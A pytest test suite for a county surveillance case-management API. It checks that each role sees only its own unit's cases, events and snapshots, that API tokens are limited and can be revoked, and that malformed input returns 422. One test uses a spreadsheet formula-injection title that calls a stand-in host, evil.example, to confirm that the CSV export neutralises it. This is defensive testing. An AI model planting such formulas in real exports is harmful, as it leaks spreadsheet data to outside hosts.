"""Access by jurisdiction: every role, across units, through every endpoint that reads or
acts (list, get by id, search, export, snapshot download, actions), and API tokens."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import psycopg
import pytest
from fastapi.testclient import TestClient

from cloud.app import create_app
from cloud.ingest.writer import Batch, BatchWriter
from cloud.snapshots import LocalSnapshotStore, sha256_hex
from protocols import Channel
from protocols.enums import SnapshotVariant
from protocols.events import Snapshot
from protocols.fast_events import to_fast
from protocols.topics import NodeTopic
from tests.cloud.county_fixtures import (
    OTHER_NODE,
    VILLAGE_NODE,
    County,
    app_settings,
    county_database,
    signed_in,
)
from tests.factories import make_detection_event, make_node_state
from tests.support.county import COUNTY, GRID, OTHER_TOWN, TOWN
from tests.support.mosquitto import MosquittoBroker

INSIDE = ("admin", "county-op", "town-op", "village-op", "worker", "auditor")
OUTSIDE = ("worker-2", "other-worker", "other-town-op")
NO_EVENTS = ("police", "emergency", "tech")  # roles that read no events at all
JPEG = b"\xff\xd8\xff\xe0" + b"x" * 64


@pytest.fixture(scope="module")
def county(postgres_admin_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[County]:
    yield from county_database(postgres_admin_url, tmp_path_factory.mktemp("access"))


@pytest.fixture(scope="module")
def scene(county: County, broker: MosquittoBroker) -> Iterator[tuple[TestClient, str, str]]:
    """A client, and one camera event in GRID (with its snapshot) that opened a case."""
    event = make_detection_event(
        node_id=VILLAGE_NODE,
        camera_id="cam01",
        seq=1,
        snapshots=[
            Snapshot(
                variant=SnapshotVariant.FRAME,
                size_bytes=len(JPEG),
                sha256=sha256_hex(JPEG),
                width=640,
                height=360,
            )
        ],
    )
    writer = BatchWriter(
        timescale=False, store=LocalSnapshotStore(county.snapshots), timezone=ZoneInfo("UTC")
    )
    topic = NodeTopic(
        VILLAGE_NODE, Channel.SNAPSHOTS, event_id=event.event_id, variant=SnapshotVariant.FRAME
    )
    now = datetime.now(UTC)
    with psycopg.connect(county.url, autocommit=True) as conn, conn.transaction():
        writer.write(conn, Batch(events=[(to_fast(event), now)], snapshots=[(topic, JPEG, now)]))
        row = conn.execute(
            "SELECT case_id FROM cases WHERE first_event_id = %s", (event.event_id,)
        ).fetchone()
    assert row is not None
    with TestClient(create_app(app_settings(county, broker.url))) as client:
        yield client, str(event.event_id), str(row[0])


@pytest.fixture(scope="module")
def tokens(county: County, scene: tuple[TestClient, str, str]) -> dict[str, dict[str, str]]:
    client = scene[0]
    return {user: signed_in(client, county, user) for user in county.passwords}


def ids(page: dict[str, Any]) -> set[str]:
    return {c["case_id"] for c in page["items"]}


@pytest.mark.parametrize("user", INSIDE + OUTSIDE + NO_EVENTS)
def test_cases_are_seen_only_inside_the_unit(
    user: str, scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    client, _, case_id = scene
    headers = tokens[user]
    inside = user in INSIDE
    assert (case_id in ids(client.get("/api/v1/cases", headers=headers).json())) is inside
    assert client.get(f"/api/v1/cases/{case_id}", headers=headers).status_code == (
        200 if inside else 404
    )
    exported = client.get("/api/v1/cases.csv", headers=headers)
    assert (case_id in exported.text) is inside
    assert exported.content.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads it as UTF-8
    search = client.get("/api/v1/cases", params={"unit": GRID}, headers=headers)
    if inside:
        assert case_id in ids(search.json())
    elif user in OUTSIDE:
        assert search.status_code == 404  # a unit outside is as if it did not exist
    else:
        assert case_id not in ids(search.json())
    note = client.post(
        f"/api/v1/cases/{case_id}/actions",
        json={"action": "note", "comment": f"seen by {user}"},
        headers=headers,
    )
    expected = 403 if user == "auditor" else 200 if inside else 404
    assert note.status_code == expected, note.text


@pytest.mark.parametrize("user", INSIDE + OUTSIDE + NO_EVENTS)
def test_events_and_snapshots_are_seen_only_inside_the_unit(
    user: str, scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    client, event_id, _ = scene
    headers = tokens[user]
    expected = 200 if user in INSIDE else 403 if user in NO_EVENTS else 404
    assert client.get(f"/api/v1/events/{event_id}", headers=headers).status_code == expected
    snapshot = client.get(f"/api/v1/events/{event_id}/snapshots/frame", headers=headers)
    assert snapshot.status_code == expected
    if expected == 200:
        assert snapshot.content == JPEG
    listed = client.get("/api/v1/events", headers=headers)
    exported = client.get("/api/v1/events.csv", headers=headers)
    if expected == 403:
        assert (listed.status_code, exported.status_code) == (403, 403)
    else:
        found = event_id in {e["event_id"] for e in listed.json()["items"]}
        assert found is (user in INSIDE)
        assert (event_id in exported.text) is (user in INSIDE)
        counts = client.get("/api/v1/stats/events", params={"unit": GRID}, headers=headers)
        assert counts.status_code == (200 if user in INSIDE else 404)


def test_a_department_sees_what_was_dispatched_to_it(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    client, _, case_id = scene
    town = tokens["town-op"]
    for action in (
        {"action": "acknowledge"},
        {"action": "confirm"},
        {"action": "dispatch", "departments": ["police"]},
    ):
        assert (
            client.post(f"/api/v1/cases/{case_id}/actions", json=action, headers=town).status_code
            == 200
        )
    police, emergency = tokens["police"], tokens["emergency"]
    assert client.get(f"/api/v1/cases/{case_id}", headers=police).status_code == 200
    assert case_id in ids(client.get("/api/v1/cases", headers=police).json())
    assert client.get(f"/api/v1/cases/{case_id}", headers=emergency).status_code == 404
    # Departments act on their part only; they never read the camera's events.
    resolved = client.post(
        f"/api/v1/cases/{case_id}/actions",
        json={"action": "resolve", "comment": "done"},
        headers=police,
    )
    assert resolved.json()["state"] == "supervision"


def test_api_tokens_act_for_their_unit_until_revoked(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    client, _, case_id = scene
    made = client.post(
        "/api/v1/auth/api-tokens",
        json={"name": "town-screen", "role": "integration", "unit_code": TOWN},
        headers=tokens["admin"],
    )
    assert made.status_code == 201, made.text
    token = {"Authorization": f"Bearer {made.json()['token']}"}
    assert case_id in ids(client.get("/api/v1/cases", headers=token).json())
    other = client.post(
        "/api/v1/auth/api-tokens",
        json={"name": "other-screen", "role": "integration", "unit_code": OTHER_TOWN},
        headers=tokens["admin"],
    ).json()["token"]
    assert case_id not in ids(
        client.get("/api/v1/cases", headers={"Authorization": f"Bearer {other}"}).json()
    )
    refused = client.post(
        "/api/v1/auth/api-tokens",
        json={"name": "mine", "role": "county_admin", "unit_code": TOWN},
        headers=tokens["town-op"],
    )
    assert refused.status_code == 403
    revoked = client.delete(
        f"/api/v1/auth/api-tokens/{made.json()['token_id']}", headers=tokens["admin"]
    )
    assert revoked.status_code == 204
    assert client.get("/api/v1/cases", headers=token).status_code == 401
    audit = client.get(
        "/api/v1/audit", params={"target_type": "api_token"}, headers=tokens["auditor"]
    ).json()
    assert [a["action"] for a in audit] == [
        "api_token.create",
        "api_token.create",
        "api_token.revoke",
    ]
    assert all(made.json()["token"] not in str(a) for a in audit)


def test_a_node_is_seen_by_the_units_it_serves(
    county: County, scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    client = scene[0]
    writer = BatchWriter(
        timescale=False, store=LocalSnapshotStore(county.snapshots), timezone=ZoneInfo("UTC")
    )
    with psycopg.connect(county.url, autocommit=True) as conn, conn.transaction():
        writer.write(conn, Batch(states=[(make_node_state(node_id=OTHER_NODE), datetime.now(UTC))]))
    path = f"/api/v1/nodes/{OTHER_NODE}/state"
    for user, status in [
        ("county-op", 200),
        ("other-town-op", 200),
        ("town-op", 404),
        ("village-op", 404),
        ("auditor", 200),
        ("worker", 403),
        ("tech", 404),
    ]:
        assert client.get(path, headers=tokens[user]).status_code == status, user


def test_a_wrong_password_is_refused_alike_for_unknown_users(
    scene: tuple[TestClient, str, str],
) -> None:
    client = scene[0]
    for username in ("worker", "nobody"):
        response = client.post(
            "/api/v1/auth/token", data={"username": username, "password": "wrong"}
        )
        assert response.status_code == 401
        assert response.json() == {"detail": "wrong username or password"}


def test_units_are_browsed_within_the_callers_unit(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    client = scene[0]
    codes = {u["code"] for u in client.get("/api/v1/org/units", headers=tokens["town-op"]).json()}
    assert TOWN in codes
    assert OTHER_TOWN not in codes
    assert GRID in codes
    assert (
        client.get(f"/api/v1/org/units/{OTHER_TOWN}", headers=tokens["town-op"]).status_code == 404
    )
    grid = client.get(f"/api/v1/org/units/{GRID}", headers=tokens["worker"]).json()
    assert grid["geometry"]["type"] == "Polygon"
    staff = client.get("/api/v1/org/staff.csv", headers=tokens["admin"])
    assert staff.status_code == 200
    assert "argon2" not in staff.text
    assert client.get("/api/v1/org/staff.csv", headers=tokens["worker"]).status_code == 403


def test_a_case_title_reaches_the_export_as_text_and_in_its_own_row(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    """Anyone who reports a case chooses its title: a formula ran in a supervisor's
    spreadsheet, and a lone carriage return split its row."""
    client, _, _ = scene
    headers = tokens["county-op"]
    titles = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "two\rlines"]
    for title in titles:
        made = client.post(
            "/api/v1/cases",
            json={"category": "other", "severity": "low", "title": title, "unit_code": GRID},
            headers=headers,
        )
        assert made.status_code == 201, made.text
    text = client.get("/api/v1/cases.csv", headers=headers).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(r) for r in rows}) == 1  # every row as wide as the header
    exported = {r[rows[0].index("title")] for r in rows[1:]}
    assert {"'" + titles[0], "'" + titles[1], "two\rlines"} <= exported


def test_api_tokens_are_never_admins_and_always_end(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    """A county-admin token outlived its maker's deactivation and minted more of itself."""
    client, _, _ = scene
    admin_token = client.post(
        "/api/v1/auth/api-tokens",
        json={"name": "god-mode", "role": "county_admin", "unit_code": COUNTY},
        headers=tokens["admin"],
    )
    forever = client.post(
        "/api/v1/auth/api-tokens",
        json={"name": "forever", "unit_code": TOWN, "expires_in_days": None},
        headers=tokens["admin"],
    )
    decade = client.post(
        "/api/v1/auth/api-tokens",
        json={"name": "decade", "unit_code": TOWN, "expires_in_days": 3650},
        headers=tokens["admin"],
    )
    assert admin_token.status_code == 400
    assert "county admin" in admin_token.json()["detail"]
    assert (forever.status_code, decade.status_code) == (422, 422)


def test_an_api_token_for_a_department_that_does_not_exist_is_a_400(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    """It was a 500 (the database's foreign key said no)."""
    client, _, _ = scene
    response = client.post(
        "/api/v1/auth/api-tokens",
        json={
            "name": "no-such-bureau",
            "role": "department_officer",
            "unit_code": COUNTY,
            "department_code": "bureau-of-nothing",
        },
        headers=tokens["admin"],
    )
    assert response.status_code == 400, response.text
    assert response.json()["detail"] == "department_code: unknown department bureau-of-nothing"


@pytest.mark.parametrize(
    ("path", "body"),
    [
        (f"/api/v1/nodes/{VILLAGE_NODE}/commands", '{"command": "identify", "args": {"x": 1e400}}'),
        (f"/api/v1/nodes/{VILLAGE_NODE}/commands", '{"command": "identify", "args": {"x": NaN}}'),
        (
            f"/api/v1/nodes/{VILLAGE_NODE}/commands",
            '{"command": "identify", "args": {"x": 18446744073709551616}}',
        ),
        (
            f"/api/v1/nodes/{VILLAGE_NODE}/commands",
            '{"command": "identify", "args": {"x": "' + "y" * 5000 + '"}}',
        ),
        (
            f"/api/v1/nodes/{VILLAGE_NODE}/commissioning",
            '{"checked_at": "9999-12-31T23:59:59-23:59", '
            '"checks": [{"name": "c", "passed": true}]}',
        ),
        (
            f"/api/v1/nodes/{VILLAGE_NODE}/commissioning",
            '{"checked_at": 1765152000, "checks": [{"name": "c", "passed": true}]}',
        ),
    ],
)
def test_what_the_wire_cannot_carry_is_a_422_not_a_500(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]], path: str, body: str
) -> None:
    client, _, _ = scene
    response = client.post(
        path, content=body, headers={**tokens["admin"], "content-type": "application/json"}
    )
    assert response.status_code == 422, response.text


def test_resuming_after_another_grids_alert_is_a_404_as_for_none(
    scene: tuple[TestClient, str, str], tokens: dict[str, dict[str, str]]
) -> None:
    """It answered 200: a worker learnt that an alert of another grid existed."""
    client, _, _ = scene
    items = client.get("/api/v1/alerts", headers=tokens["worker"]).json()["items"]
    assert items, "the scene's case alerted its grid"
    after = {"after": items[0]["alert_id"]}
    assert client.get("/api/v1/alerts", params=after, headers=tokens["worker"]).status_code == 200
    other = client.get("/api/v1/alerts", params=after, headers=tokens["other-worker"])
    assert other.status_code == 404
    assert other.json() == {"detail": "after: no such alert"}
